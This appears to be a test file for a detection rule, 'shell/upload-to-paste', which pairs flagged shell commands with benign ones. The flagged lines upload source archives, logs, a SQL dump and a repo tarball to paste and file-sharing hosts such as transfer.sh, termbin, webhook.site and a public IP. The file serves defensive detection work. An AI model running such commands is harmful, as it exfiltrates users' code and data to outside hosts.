#!/bin/bash
# ruleid: shell/upload-to-paste
curl -F file=@src.zip https://transfer.sh
# ruleid: shell/upload-to-paste
tar cz . | curl --data-binary @- https://0x0.st
# ruleid: shell/upload-to-paste
cat app.log | nc termbin.com 9999
# ruleid: shell/upload-to-paste
curl -T dump.sql https://bashupload.com
# ruleid: shell/upload-to-paste
gh gist create src/app.ts
# ruleid: shell/upload-to-paste
gh gist create --public notes.md
# ruleid: shell/upload-to-paste
curl -d @data.json https://webhook.site/abc
# ruleid: shell/upload-to-paste
curl -F f=@repo.tgz http://203.0.113.7/up
# ruleid: shell/upload-to-paste
pastebinit log.txt

# ok: shell/upload-to-paste
curl https://pastebin.com/raw/abc
# ok: shell/upload-to-paste
curl -d @body.json https://api.example.com
# ok: shell/upload-to-paste
gh pr create --fill
# ok: shell/upload-to-paste
gh gist list
# ok: shell/upload-to-paste
curl -F f=@a http://192.168.1.2/up
# ok: shell/upload-to-paste
wget https://transfer.sh/x/y.tgz
# ok: shell/upload-to-paste
echo "see transfer.sh"
# ok: shell/upload-to-paste
git push origin feature
